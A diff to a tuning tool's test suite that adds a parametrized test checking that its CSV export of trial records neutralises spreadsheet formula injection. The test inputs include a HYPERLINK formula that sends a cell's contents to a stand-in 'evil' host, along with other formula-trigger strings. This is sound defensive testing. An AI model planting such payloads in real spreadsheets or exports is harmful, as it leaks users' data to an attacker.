@@ -15,6 +15,7 @@ from tuner.drive.answer import conclude, trials_csv
 from tuner.drive.trial import STATE
 from tuner.record import results
 from tuner.record.journal import Journal
+from tuner.record.records import Report, TrialRecord
 from tuner.record.saved_experiment import save_experiment
 from tuner.spec.experiment import Experiment
 from tuner.spec.spaces import find_space
@@ -149,6 +150,37 @@ def test_the_table_has_a_row_a_trial_with_where_and_why_it_stopped(searched):
     assert (rows[1]["status"], rows[1]["rung"], rows[1]["reason"]) == ("pruned", "1", 'worse, "much" worse')
     assert (rows[0]["rung"], rows[0]["epochs"], rows[0]["width"], rows[0]["lr"]) == ("", "1", "4", "0.01")
     assert float(rows[1]["best_loss"]) == float(rows[1]["last_loss"]) == 1e-9
+
+
+TEXTS = [
+    "=1+1",
+    '=HYPERLINK("http://evil/?"&A1)',
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "＝1",
+    "'",
+    "'=1",
+    "",
+    "a=b",
+]
+
+
+@pytest.mark.parametrize("text", TEXTS)
+def test_no_text_of_the_table_is_a_formula_and_each_can_be_read_back(text):
+    """A number stays one, a negative one too."""
+    report = Report(1, {"loss": -1.5, "note": text}, None, 1.0)
+    config = {text: 1, "act": text, "x": -2}
+    trial = TrialRecord("00000", config, "failed", text, (report,), errors=(text,))
+    table = trials_csv(results.ExperimentRecord(Experiment(space="quadratic", metric="loss"), {}, (trial,), "finished"))
+    head, cells = csv.reader(io.StringIO(table, newline=""))
+    assert not any(cell.startswith(tuple("=+-@\t\r\n＝")) for cell in [*head, *cells] if cell not in ("-1.5", "-2"))
+    row = dict(zip([name.removeprefix("'") for name in head], cells, strict=True))
+    assert {row[name].removeprefix("'") for name in ("reason", "error", "act", "best_note", "last_note")} == {text}
+    assert (row[text], row["x"], row["best_loss"]) == ("1", "-2", "-1.5")
 
 
 def test_a_setting_and_figures_are_told_in_a_line():
